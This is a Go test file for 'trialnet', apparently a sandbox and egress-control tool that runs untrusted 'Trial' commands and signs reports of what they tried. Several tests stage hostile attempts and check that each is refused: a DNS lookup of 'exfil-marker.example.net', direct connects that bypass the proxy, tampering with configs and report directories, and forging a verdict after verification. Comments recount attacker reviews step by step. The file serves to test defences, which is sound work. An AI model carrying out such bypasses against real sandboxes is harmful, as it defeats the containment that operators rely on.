	dir := filepath.Join(privtest.SharedDir(t, "groups-"), "reports") // a place the Trial sees
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, 0, group); err != nil {
		t.Fatal(err)
	}
	if err := unix.Chmod(dir, 0o775); err != nil {
		t.Fatal(err)
	}
	planted := filepath.Join(dir, "planted")
	code, _, errOut := trialnet("run", "--uid", "65534", "--gid", "65534", "--report", filepath.Join(dir, "report.json"), "--", "sh", "-c", "touch "+planted+"; grep '^Groups:' /proc/self/status >&2")
	if _, err := os.Stat(planted); err == nil {
		t.Fatalf("the Trial wrote the report's directory by trialnet's supplementary group %d (exit %d)\n%s", group, code, errOut)
	}
	if code != 0 {
		t.Fatalf("run: exit %d\n%s", code, errOut)
	}
}

// --report-fd on a socket connected to a listener at a path: the Trial
// may connect to that path too, and send its own report first, as it
// may write a named FIFO. Refused; an anonymous pair stays fine.
func TestPrivilegedReportFdOnANamedSocket(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	sock := filepath.Join(privtest.SharedDir(t, "sock-"), "harness.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if err := os.Chmod(sock, 0o777); err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, c); c.Close() }()
		}
	}()
	c, err := net.Dial("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	f, err := c.(*net.UnixConn).File()
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	code, _, errOut := trialnet("run", "--uid", "65534", "--report-fd", fmt.Sprint(f.Fd()), "--", "true")
	if code != exitUsage || !strings.Contains(errOut, sock) {
		t.Errorf("--report-fd on a socket connected to %s: exit %d, want %d\n%s", sock, code, exitUsage, errOut)
	}
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	// The harness's end is the File's alone: a second close of its number
	// (a defer, then the File's finalizer) would close whatever later
	// took that number, another test's descriptor.
	harness := os.NewFile(uintptr(pair[0]), "harness")
	defer harness.Close()
	go func() { _, _ = io.Copy(io.Discard, harness) }()
	code, _, errOut = trialnet("run", "--uid", "65534", "--report-fd", fmt.Sprint(pair[1]), "--", "true")
	unix.Close(pair[1])
	if code != 0 {
		t.Errorf("--report-fd on a socket pair: exit %d\n%s", code, errOut)
	}
}

// askStub sends the Trial's DNS stub one UDP question for each argument,
// NAME[/TYPE]=RCODE (TYPE a number, 1 by default), each once, and exits
// 1 when an answer's rcode is not RCODE.
const askStub = `
import socket, struct, sys
for i, arg in enumerate(sys.argv[1:]):
    q, _, want = arg.partition("=")
    name, _, typ = q.partition("/")
    msg = struct.pack(">HHHHHH", i + 1, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    msg += b"\0" + struct.pack(">HH", int(typ or 1), 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(msg, ("127.0.0.53", 53))
    got = struct.unpack(">HH", s.recv(512)[:4])[1] & 0xF
    if got != int(want):
        sys.exit("%s: rcode %d, want %s" % (q, got, want))
`

// A name a transparent Trial asked for and was refused is a refused
// attempt like a refused CONNECT: a client that ignores the proxy
// variables looks the name up, and the stub's NXDOMAIN is where it is
// stopped. The signed receipt, the report and the summary count it; a
// reverse name (any resolver's PTR lookup) and an allowed name do not.
func TestPrivilegedReceiptCountsNamesTheStubRefused(t *testing.T) {
	privtest.Require(t)
	privtest.RequireTool(t, "python3")
	installedByTest(t)
	report := filepath.Join(t.TempDir(), "report.json")
	code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report", report, "--",
		"/usr/bin/python3", "-c", askStub, "exfil-marker.example.net=3", "allowed.example.test=0", "1.2.0.192.in-addr.arpa/12=3")
	if code != 0 {
		t.Fatalf("run: exit %d\n%s", code, errOut)
	}
	b, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	var r struct {
		runReport
		DNS *client.DNSStats `json:"dns"`
	}
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatal(err)
	}
	if r.DNS == nil || r.DNS.Denied != 1 {
		t.Errorf("the report's dns: %+v; want 1 name denied\n%s", r.DNS, b)
	}
	const said = "names: 1 refused by the DNS stub"
	if !strings.Contains(r.Summary, said) || !strings.Contains(errOut, said) {
		t.Errorf("summary %q, stderr %q: want %q", r.Summary, errOut, said)
	}
	pub, err := agent.ReadPublicKey(agent.ReceiptPublicKey(agent.DefaultReceiptKey))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := r.Receipt.Verify(pub)
	if err != nil {
		t.Fatal(err)
	}
	if rc.DNS == nil || rc.DNS.Denied != 1 {
		t.Errorf("the signed receipt's dns: %+v; want 1 name denied", rc.DNS)
	}
}

// A connect or datagram the kernel refused is a refused attempt as much
// as a refused CONNECT: a client that ignores the proxy is stopped there,
// before any tunnel or lookup. The summary says so, each counter by name,
// and says nothing of a Trial the kernel refused nothing.
func TestSummaryCountsKernelRefusals(t *testing.T) {
	st := client.Stats{Trial: "t1", Kernel: map[string]uint64{"connect4_allowed": 7, "connect4_denied": 5, "sendmsg4_denied": 3,
		"egress_loopback_packets": 40, "netns_mismatch": 0, "pty_denied": 0}}
	const want = "kernel: 8 refused (connect4_denied ×5, sendmsg4_denied ×3); "
	if got := summary(st, 0, time.Second); !strings.Contains(got, want) {
		t.Errorf("summary %q: want %q in it", got, want)
	}
	st.Kernel = map[string]uint64{"connect4_allowed": 7, "connect4_denied": 0}
	if got := summary(st, 0, time.Second); strings.Contains(got, "kernel:") {
		t.Errorf("summary %q names kernel refusals where there were none", got)
	}
}

// A destroy that failed through a running agent older than its stats
// beside the error answered the error alone: the Trial's processes
// outlived the kill, or its counters could not be read. run's summary
// then has no verdict to say, and must not make "ok" of the zeros.
func TestSummaryOfAFailedDestroyIsNoVerdict(t *testing.T) {
	var f runFlags
	f.register(flag.NewFlagSet("run", flag.ContinueOnError))
	var stderr bytes.Buffer
	res := client.RunResult{Exit: 1,
		DestroyErr: errors.New("destroy t1: close Trial t1: cgroup still has processes 10s after cgroup.kill")}
	res.Info.ID = "t1"
	if code := f.finish(res, "cmd", nil, &stderr); code != 1 {
		t.Errorf("run's exit %d, want CMD's 1", code)
	}
	if out := stderr.String(); strings.Contains(out, "(ok") || !strings.Contains(out, "NO VERDICT") || !strings.Contains(out, "Trial t1: exit 1") {
		t.Errorf("run over a failed destroy said:\n%s", out)
	}
	// The report says no counter either: a harness reading
	// direct_egress_packets alone must not read a clean zero.
	r := f.result(res, client.Stats{Trial: "t1"}, 1)
	if r["direct_egress_packets"] != nil || r["foreign_socket_uses"] != nil || r["counters_unsure"] == nil {
		t.Errorf("the report of a run over a failed destroy: direct_egress_packets %v, foreign_socket_uses %v, counters_unsure %v; want null, null and why",
			r["direct_egress_packets"], r["foreign_socket_uses"], r["counters_unsure"])
	}
}

// signedWith writes report, signed as run signs it but with the key at
// key (made there), and returns its path.
func signedWith(t *testing.T, key string, report map[string]any) string {
	t.Helper()
	b, err := json.Marshal(report)
	if err != nil {
		t.Fatal(err)
	}
	var fields map[string]json.RawMessage
	if err := json.Unmarshal(b, &fields); err != nil {
		t.Fatal(err)
	}
	c, err := canonicalReport(fields)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := agent.SignReport(key, c)
	if err != nil {
		t.Fatal(err)
	}
	if fields[reportSignatureKey], err = json.Marshal(sig); err != nil {
		t.Fatal(err)
	}
	if b, err = json.Marshal(fields); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "report.json")
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// The report of a run whose destroy failed through a running agent holds
// no receipt (null): verify says this run ended without a verdict, and
// why, as for any run that did; not that the file is no receipt, nor,
// for want of the nonce the receipt would have carried, another run's.
func TestVerifyFailedDestroyReportIsNoVerdict(t *testing.T) {
	var f runFlags
	f.register(flag.NewFlagSet("run", flag.ContinueOnError))
	*f.nonce = "n-42"
	res := client.RunResult{Exit: 1, DestroyErr: errors.New("destroy t1: close Trial t1: cgroup still has processes 10s after cgroup.kill")}
	res.Info.ID = "t1"
	key := filepath.Join(t.TempDir(), "keys", "receipt.key")
	report := signedWith(t, key, f.result(res, client.Stats{Trial: "t1"}, 1))
	code, _, errOut := trialnet("verify", "--key", agent.ReceiptPublicKey(key), "--nonce", "n-42", "--trial", "t1", report)
	if code != exitNoVerdict || !strings.Contains(errOut, "no verdict") || !strings.Contains(errOut, "still has processes") {
		t.Errorf("verify: exit %d, %q; want %d, no verdict and the destroy's error", code, errOut, exitNoVerdict)
	}
}

// A run the deadline ended is no failure of trialnet's: the report says
// timed_out, and its error only what did fail (the destroy), not the
// kill the deadline made ("context deadline exceeded"), which a harness
// would read as trialnet failing around CMD.
func TestReportOfATimeoutHasNoError(t *testing.T) {
	var f runFlags
	f.register(flag.NewFlagSet("run", flag.ContinueOnError))
	killed := fmt.Errorf("the command was killed: %w", context.DeadlineExceeded)
	res := client.RunResult{Exit: client.ExitTimeout, TimedOut: true, Err: killed}
	if r := f.result(res, client.Stats{}, client.ExitTimeout); r["error"] != nil || r["timed_out"] != true {
		t.Errorf("a timeout's report: error %v, timed_out %v; want none, true", r["error"], r["timed_out"])
	}
	res.DestroyErr = errors.New("destroy: close Trial: cgroup still has processes")
	if r := f.result(res, client.Stats{}, client.ExitTimeout); r["error"] != res.DestroyErr.Error() {
		t.Errorf("a timeout whose destroy failed: error %v; want the destroy's", r["error"])
	}
	res = client.RunResult{Exit: 1, Err: killed}
	if r := f.result(res, client.Stats{}, 1); r["error"] != killed.Error() {
		t.Errorf("a run killed before its deadline: error %v; want the kill", r["error"])
	}
}

// The report says counters_unsure beside counters that may not be
// final, as stats do: a harness reading its fields, not the verdict's
// words, must not take their zeros for a clean run's.
func TestReportSaysCountersUnsure(t *testing.T) {
	var f runFlags
	f.register(flag.NewFlagSet("run", flag.ContinueOnError))
	st := client.Stats{Trial: "t1", Verdict: "verdict: UNKNOWN: ...", Unsure: "counters: no Trial with cgroup id 7 is known to the eBPF maps"}
	if r := f.result(client.RunResult{}, st, 0); r["counters_unsure"] != st.Unsure {
		t.Errorf("the report's counters_unsure %v, want %q", r["counters_unsure"], st.Unsure)
	}
	st.Unsure = ""
	if r := f.result(client.RunResult{}, st, 0); r["counters_unsure"] != nil {
		t.Errorf("final counters, and the report says counters_unsure %v", r["counters_unsure"])
	}
}

// directConnects is a Trial that ignores the proxy: a TCP connect and a
// datagram to a loopback port strict mode refuses, twice each.
const directConnects = `
import socket
for _ in range(2):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_INET, kind)
        try:
            s.connect(("127.0.0.1", 9)) if kind == socket.SOCK_STREAM else s.sendto(b"x", ("127.0.0.1", 9))
        except PermissionError:
            pass
        else:
            raise SystemExit("not refused")
        s.close()
`

// The kernel's refusals reach the report's summary and run's line, not
// only its counters: a run whose Trial tried to connect around the proxy
// reads "kernel: 4 refused", where it read "0 refused ... (ok)".
func TestPrivilegedSummaryCountsKernelRefusals(t *testing.T) {
	privtest.Require(t)
	privtest.RequireTool(t, "python3")
	installedByTest(t)
	report := filepath.Join(t.TempDir(), "report.json")
	code, _, errOut := trialnet("run", "--strict", "--uid", "65534", "--report", report, "--", "/usr/bin/python3", "-c", directConnects)
	if code != 0 {
		t.Fatalf("run: exit %d\n%s", code, errOut)
	}
	b, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	var r runReport
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatal(err)
	}
	const said = "kernel: 4 refused (connect4_denied ×2, sendmsg4_denied ×2)"
	if !strings.Contains(r.Summary, said) || !strings.Contains(errOut, said) {
		t.Errorf("summary %q, stderr %q: want %q", r.Summary, errOut, said)
	}
}

// CMD can exit 124 (or 125) itself: the report says apart whether the
// run timed out, so that a Trial cannot pass its own failure off as the
// harness's timeout, nor a timeout as its own code.
func TestPrivilegedReportSaysTimedOutApart(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	for _, tc := range []struct {
		name    string
		timeout string
		cmd     string
		timed   bool
	}{
		{"CMD exits 124", "1h", "exit 124", false},
		{"the timeout passes", "1s", "exec sleep 60", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			report := filepath.Join(t.TempDir(), "report.json")
			code, _, errOut := trialnet("run", "--uid", "65534", "--timeout", tc.timeout, "--report", report, "--", "/bin/sh", "-c", tc.cmd)
			if code != client.ExitTimeout {
				t.Fatalf("run: exit %d, want %d\n%s", code, client.ExitTimeout, errOut)
			}
			b, err := os.ReadFile(report)
			if err != nil {
				t.Fatal(err)
			}
			var r map[string]json.RawMessage
			if err := json.Unmarshal(b, &r); err != nil {
				t.Fatal(err)
			}
			if got, want := string(r["timed_out"]), strconv.FormatBool(tc.timed); got != want || string(r["exit_code"]) != "124" {
				t.Errorf("the report's timed_out %s, exit_code %s; want %s, 124", got, r["exit_code"], want)
			}
		})
	}
}

// verify says when records could not be written to a decision log that
// matches its receipt: the log is whole as signed, but not every
// decision is in it (its disk was full), and a harness reading it for
// what was tried must know.
func TestVerifyLogSaysRecordsUnwritten(t *testing.T) {
	dir := t.TempDir()
	log := filepath.Join(dir, "decisions.jsonl")
	if err := os.WriteFile(log, []byte("{}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	d, err := agent.DigestLog(log)
	if err != nil {
		t.Fatal(err)
	}
	d.Unwritten = 3
	state, code, err := verifyLog(client.Receipt{Trial: "t", DecisionLog: d}, filepath.Join(dir, "receipt.json"), "", false)
	if err != nil || code != exitOK || !strings.Contains(state, "3 records could not be written") {
		t.Fatalf("verify: %q, exit %d, %v: want the 3 unwritten records said", state, code, err)
	}
}

// run --config FILE where the Trial could change FILE (the operator's
// project, as the README's example had it) is refused before an agent
// starts or CMD runs: a Trial that rewrote it would give the next run
// that reads it learn: true, names of its own and a state directory of
// its choosing, which root then makes. A file only root can change is
// used, through a root link too (refused before configOutOfReach
// followed a link at the name: "not a regular file or FIFO"). Seen red
// with configOutOfReach returning nil: each CMD ran.
func TestPrivilegedRunConfigOutOfTheTrialsReach(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	shared := privtest.SharedDir(t, "config-")
	sock := filepath.Join(t.TempDir(), "no-agent.sock")
	proj, etc := filepath.Join(shared, "proj"), filepath.Join(shared, "etc")
	for _, d := range []string{proj, etc} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chown(proj, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	const body = "profiles:\n  p:\n    - api.example.com:443\n"
	write := func(path string, mode os.FileMode, owner int) string {
		if err := os.WriteFile(path, []byte(body), mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(path, mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(path, owner, owner); err != nil {
			t.Fatal(err)
		}
		return path
	}
	// A root link out of the Trial's reach, as /etc's are on NixOS, is
	// followed, and what it leads to is judged as the file itself.
	link := func(target, path string) string {
		if err := os.Symlink(target, path); err != nil {
			t.Fatal(err)
		}
		return path
	}
	ran := filepath.Join(proj, "ran")
	runWith := func(config string) (int, string) {
		code, _, errOut := trialnet("run", "--socket", sock, "--uid", "65534", "--gid", "65534", "--config", config, "--profile", "p",
			"--", "sh", "-c", "touch "+ran)
		return code, errOut
	}
	write(filepath.Join(etc, "roots.yaml"), 0o644, 0)
	for _, c := range []struct{ config, why string }{
		{write(filepath.Join(proj, "own.yaml"), 0o644, 65534), "owned by uid 65534"},
		{write(filepath.Join(proj, "roots.yaml"), 0o644, 0), "owned by uid 65534"}, // its directory is the Trial's
		{write(filepath.Join(etc, "world.yaml"), 0o666, 0), "may write"},
		{link(filepath.Join(proj, "roots.yaml"), filepath.Join(etc, "into-proj.yaml")), "owned by uid 65534"},
	} {
		code, errOut := runWith(c.config)
		if code != exitUsage || !strings.Contains(errOut, "could change this file") || !strings.Contains(errOut, c.why) {
			t.Errorf("--config %s: exit %d, want %d and %q\n%s", c.config, code, exitUsage, c.why, errOut)
		}
		if _, err := os.Stat(ran); err == nil {
			t.Fatalf("--config %s: the Trial ran", c.config)
		}
	}
	if code, errOut := runWith(link("roots.yaml", filepath.Join(etc, "link.yaml"))); code != exitOK {
		t.Fatalf("--config through root's link to root's file: exit %d\n%s", code, errOut)
	}
	if _, err := os.Stat(ran); err != nil {
		t.Fatalf("the Trial did not run with root's config: %v", err)
	}
}

// run --config FILE that another user of the host (not the Trial's)
// could change is refused too, as agent --config refuses it: that user
// would have root's embedded agent take their allowlist, learn: true and
// paths root then makes (an attacker's review: uid 65534's file in its
// /tmp directory, root's run --uid 2001 became a learning Trial and root
// made the state directory it named). The file of the user who ran sudo
// (SUDO_UID), in their directory, is theirs to give. Seen red with
// callersConfig's call taken out of run: the three refused ones ran CMD.
func TestPrivilegedRunConfigOnlyRootsOrTheCallers(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	shared := privtest.SharedDir(t, "config-")
	sock := filepath.Join(t.TempDir(), "no-agent.sock")
	const other = 65533 // a host user, not the Trial's 65534
	theirs, roots, trials := filepath.Join(shared, "theirs"), filepath.Join(shared, "roots"), filepath.Join(shared, "trial")
	for _, d := range []string{theirs, roots, trials} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(os.Chown(theirs, other, other), os.Chown(trials, 65534, 65534)); err != nil {
		t.Fatal(err)
	}
	ran := filepath.Join(trials, "ran")
	write := func(path string, owner int) string {
		err := os.WriteFile(path, []byte("profiles:\n  p:\n    - api.example.com:443\n"), 0o644)
		if err == nil {
			err = os.Chown(path, owner, owner)
		}
		if err != nil {
			t.Fatal(err)
		}
		return path
	}
	runWith := func(config string) (int, string) {
		code, _, errOut := trialnet("run", "--socket", sock, "--uid", "65534", "--gid", "65534", "--config", config, "--profile", "p",
			"--", "sh", "-c", "touch "+ran)
		return code, errOut
	}
	t.Setenv("SUDO_UID", "")
	for _, c := range []struct{ config, why string }{
		{write(filepath.Join(theirs, "own.yaml"), other), "owned by uid 65533"},
		{write(filepath.Join(theirs, "roots.yaml"), 0), "owned by uid 65533"},
		{write(filepath.Join(roots, "theirs.yaml"), other), "uid 65533's"},
	} {
		code, errOut := runWith(c.config)
		if code != exitUsage || !strings.Contains(errOut, "someone but root could") || !strings.Contains(errOut, c.why) {
			t.Errorf("--config %s: exit %d, want %d and %q\n%s", c.config, code, exitUsage, c.why, errOut)
		}
		if _, err := os.Stat(ran); err == nil {
			t.Fatalf("--config %s: the Trial ran", c.config)
		}
	}
	t.Setenv("SUDO_UID", strconv.Itoa(other))
	if code, errOut := runWith(filepath.Join(theirs, "own.yaml")); code != exitOK {
		t.Fatalf("--config of the user who ran sudo: exit %d\n%s", code, errOut)
	}
	if _, err := os.Stat(ran); err != nil {
		t.Fatalf("the Trial did not run with its caller's config: %v", err)
	}
}

// --report FILE, --report-dir DIR and --report-fd N on a file, where a
// user of the host who is not the Trial's owns the directory: refused
// before anything runs or is made, as that user could move the report
// once verify has read it and put theirs at its name for the harness to
// read (an attacker's review: uid 65534's /tmp/atkrep, root's run --uid
// 2001 --report in it, verify passed, then uid 65534 swapped in a forged
// verdict). The directory of the user who ran sudo (SUDO_UID) is theirs
// to give. Seen red with OthersOutOfReach's calls taken out: each run
// went ahead (exit 0) and wrote its report in the other user's directory.
func TestPrivilegedReportOutOfOtherUsersReach(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	const other = 65533 // a host user, not the Trial's 65534
	theirs := filepath.Join(privtest.SharedDir(t, "others-"), "theirs")
	if err := os.Mkdir(theirs, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(theirs, other, other); err != nil {
		t.Fatal(err)
	}
	fdFile := filepath.Join(theirs, "fd.json")
	if err := os.WriteFile(fdFile, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(fdFile, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	run := func(args ...string) (int, string) {
		code, _, errOut := trialnet(append(append([]string{"run", "--uid", "65534", "--gid", "65534", "--id", "others"}, args...), "--", "true")...)
		return code, errOut
	}
	t.Setenv("SUDO_UID", "")
	for _, args := range [][]string{
		{"--report", filepath.Join(theirs, "r.json")},
		{"--report-dir", filepath.Join(theirs, "reports")},
		{"--report-fd", strconv.Itoa(int(f.Fd()))},
	} {
		code, errOut := run(args...)
		if code != exitUsage || !strings.Contains(errOut, "another user of this host") || !strings.Contains(errOut, "uid 65533") {
			t.Errorf("%v: exit %d, want %d, refused as in another user's reach\n%s", args, code, exitUsage, errOut)
		}
	}
	if names, _ := os.ReadDir(theirs); len(names) != 1 {
		t.Errorf("a refused run left %v in the other user's directory", names)
	}
	if b, _ := os.ReadFile(fdFile); len(b) != 0 {
		t.Errorf("a refused run wrote the report to its descriptor: %q", b)
	}
	t.Setenv("SUDO_UID", strconv.Itoa(other))
	if code, errOut := run("--report", filepath.Join(theirs, "r.json")); code != exitOK {
		t.Fatalf("--report in the directory of the user who ran sudo: exit %d\n%s", code, errOut)
	}
}

// A config's paths: that lead into a directory another user owns (or may
// write) are refused by run, agent and uninstall before anything is made
// or removed there: root makes its state, namespaces and sockets at
// those paths, and that user could put a link or a directory of their
// own in their place. Seen red with pathsRootsAlone returning nil: run
// made state-ephemeral in uid 65533's directory, and uninstall went on.
func TestPrivilegedConfigPathsRootsAlone(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	shared := privtest.SharedDir(t, "paths-")
	theirs := filepath.Join(shared, "theirs")
	if err := os.Mkdir(theirs, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(theirs, 65533, 65533); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(shared, "trialnet.yaml")
	body := fmt.Sprintf("profiles:\n  p: [api.example.com:443]\npaths:\n  state_dir: %s/state\n", theirs)
	if err := os.WriteFile(config, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "no-agent.sock")
	for _, args := range [][]string{
		{"run", "--socket", sock, "--uid", "65534", "--gid", "65534", "--config", config, "--profile", "p", "--", "true"},
		{"uninstall", "--config", config},
	} {
		code, _, errOut := trialnet(args...)
		if code != exitUsage || !strings.Contains(errOut, "state_dir") || !strings.Contains(errOut, "owned by uid 65533") {
			t.Errorf("%v: exit %d, want %d, the state directory refused\n%s", args[0], code, exitUsage, errOut)
		}
	}
	if names, _ := os.ReadDir(theirs); len(names) != 0 {
		t.Errorf("root made %v in uid 65533's directory", names)
	}
}

// run's state directory is state_dir's name with -ephemeral, a name
// pathsRootsAlone never judged: beneath a sticky directory, another user
// may make it first, and root's embedded agent would keep, read and
// sweep its records there. run makes it, then judges what it made, and
// refuses another user's. Seen red with the check after the make taken
// out: run exited 0 and wrote in uid 65533's state-ephemeral.
func TestPrivilegedRunStateDirMadeFirstByAnother(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	sticky := privtest.SharedDir(t, "paths-")
	if err := os.Chmod(sticky, os.ModeSticky|0o777); err != nil {
		t.Fatal(err)
	}
	theirs := filepath.Join(sticky, "state-ephemeral")
	if err := os.Mkdir(theirs, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(theirs, 65533, 65533); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(privtest.SharedDir(t, "paths-"), "trialnet.yaml")
	body := fmt.Sprintf("profiles:\n  p: [api.example.com:443]\npaths:\n  state_dir: %s/state\n", sticky)
	if err := os.WriteFile(config, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "no-agent.sock")
	code, _, errOut := trialnet("run", "--socket", sock, "--uid", "65534", "--gid", "65534", "--config", config, "--profile", "p", "--", "true")
	if code != exitUsage || !strings.Contains(errOut, "state_dir") || !strings.Contains(errOut, "owned by uid 65533") {
		t.Errorf("exit %d, want %d, uid 65533's state-ephemeral refused\n%s", code, exitUsage, errOut)
	}
	if names, _ := os.ReadDir(theirs); len(names) != 0 {
		t.Errorf("root made %v in uid 65533's directory", names)
	}
}

// verify's refusal of what is not a regular file says what a receipt is;
// a missing receipt is said missing, without it.
func TestReadReceiptFileSaysWhatIsWrong(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := readReceiptFile(fifo); err == nil || !strings.Contains(err.Error(), "not a regular file") || !strings.Contains(err.Error(), "a receipt or report is one") {
		t.Errorf("a FIFO: %v, want refused as not a regular file, which a receipt is", err)
	}
	if _, err := readReceiptFile(filepath.Join(dir, "none")); !errors.Is(err, os.ErrNotExist) || strings.Contains(err.Error(), "a receipt or report is one") {
		t.Errorf("a missing file: %v, want it said missing and no more", err)
	}
}
